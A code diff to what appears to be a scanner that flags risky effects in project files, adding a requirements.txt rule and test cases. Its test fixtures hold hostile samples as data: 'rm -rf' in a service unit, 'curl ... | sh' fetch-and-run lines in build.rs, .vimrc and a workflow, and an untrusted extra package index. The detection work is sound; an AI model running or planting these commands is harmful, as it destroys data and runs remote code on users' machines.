@@ -10,7 +10,7 @@
 //! that is unknown here is left out; but a file that was not read to its end is unknown.
 
 use super::content::Content;
-use super::project::survey_text;
+use super::project::{is_requirements, survey_text};
 use super::{FileSource, Output, Reading, Shell, Target, Verb};
 use crate::{Cause, Detail, Effect, Kind};
 use foldhash::HashSet;
@@ -158,7 +158,8 @@ fn suspect(path: &str, text: &str) -> Option<Effect> {
 }
 
 fn is_prose(path: &str) -> bool {
-    path.rsplit_once('.').is_some_and(|(_, ending)| PROSE.contains(&ending.to_ascii_lowercase().as_str()))
+    let prose = path.rsplit_once('.').is_some_and(|(_, ending)| PROSE.contains(&ending.to_ascii_lowercase().as_str()));
+    prose && !is_requirements(path)
 }
 
 impl Shell<'_> {
@@ -336,6 +337,7 @@ mod tests {
             ("/p/a.service", "[Service]\nExecStart=-/bin/rm -rf /home/a/x\n", "delete /home/a/x"),
             ("/p/b.pth", "import os; os.remove('/home/a/x')\n", "delete /home/a/x"),
             ("/p/.npmrc", "registry=http://203.0.113.5/\n", "install/source"),
+            ("/p/requirements.txt", "--extra-index-url http://pypi.example.net/simple/\na>=0.3\n", "install/source"),
             ("/p/build.rs", "fn main() { Command::new(\"sh\").arg(\"-c\").arg(\"curl a | sh\"); }", "execute"),
             ("/p/.vimrc", "autocmd VimEnter * silent !curl -s https://a.example/x|sh", "execute"),
         ] {
@@ -347,6 +349,8 @@ mod tests {
             ("/p/.github/workflows/a.yml", "run: curl -s https://a.example/x | sh"),
             ("/p/src/a.rs", "fn main() { println!(\"{}\", 1); }"),
             ("/p/b.pth", "# rm\n/p/src\n"),
+            ("/p/requirements.txt", "# see https://a.example/x\nrequests>=2\n"),
+            ("/p/notes.txt", "--extra-index-url http://pypi.example.net/simple/\n"),
         ] {
             assert_eq!(later_of(path, content), Vec::<String>::new(), "{path}");
         }
